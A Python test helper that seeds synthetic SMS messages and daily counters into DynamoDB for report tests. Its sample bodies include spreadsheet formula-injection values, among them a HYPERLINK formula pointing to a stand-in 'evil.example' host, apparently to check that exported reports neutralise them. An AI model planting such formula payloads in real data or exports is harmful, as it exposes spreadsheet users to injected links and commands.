"""SMS messages in bulk, written as the send path leaves them, for report tests and benchmarks:
`seed(app_id, count, start, days)` returns the messages in id order, so a test can compare a report
with them row by row. The day counters come from the messages stream (a test drains it); where no
stream consumer runs, `counters=True` writes them too."""
from __future__ import annotations

import random
from collections import Counter as Tally
from datetime import datetime, timedelta
from typing import Any

# Bodies as senders write them, and some that a spreadsheet would run as a formula.
BODIES = ["Kode OTP Anda {n:06d}. Jangan berikan kode ini kepada siapa pun.",
          "Halo Budi, pesanan #INV-{n} sudah dikirim dan tiba besok 🚚",
          "Tagihan Anda Rp {n},- jatuh tempo 25/10; abaikan jika sudah membayar.",
          "Halo;=1+2;@SUM(A1) {n}", "=HYPERLINK(\"http://evil.example/?{n}\",\"Klik\")",
          "baris satu\r\nbaris dua {n}", "+62 promo, \"diskon\" {n}%"]
STATUSES = ["Delivered"] * 6 + ["Failed", "Sent"]


def seed(app_id: str, count: int, start: datetime, days: int = 10, zone: str = "Asia/Jakarta",
         seed_value: int = 7, counters: bool = False) -> list[dict[str, Any]]:
    import boto3
    from ulid import ULID

    from chalicelib.core.config import get_settings
    from chalicelib.messages.models import app_channel_key, index_keys
    from chalicelib.messages.transitions import local_day

    settings = get_settings()
    rng = random.Random(seed_value)
    step = days * 86400 / count
    tally: Tally[tuple[str, str]] = Tally()
    written = []
    with boto3.resource("dynamodb").Table(settings.messages_table).batch_writer() as batch:
        for i in range(count):
            moment = start + timedelta(seconds=i * step)
            status = rng.choice(STATUSES)
            body = rng.choice(BODIES).format(n=rng.randrange(10**6))
            at = moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")
            message_id = str(ULID.from_timestamp(moment.timestamp()))
            item = {"message_id": message_id, "application_id": app_id,
                    "channel": "sms", **index_keys(app_id, "sms", status, message_id), "target": f"+62812{i:07d}",
                    "status": status, "created_at": at, "updated_at": at, "day": local_day(moment, zone), "cost": 1,
                    "details": {"message_body": body, "total_sms": 1 + len(body) // 160}, "history": []}
            batch.put_item(Item=item)
            tally[(item["day"], status)] += 1
            written.append(item)
    if not counters:
        return sorted(written, key=lambda m: m["message_id"])
    days_counts: dict[str, dict[str, int]] = {}
    for (day, status), n in tally.items():
        days_counts.setdefault(day, {})[status] = n
    with boto3.resource("dynamodb").Table(settings.counters_table).batch_writer() as batch:
        for day, counts in days_counts.items():
            batch.put_item(Item={"pk": app_channel_key(app_id, "sms"), "sk": day, **counts})
    return sorted(written, key=lambda m: m["message_id"])
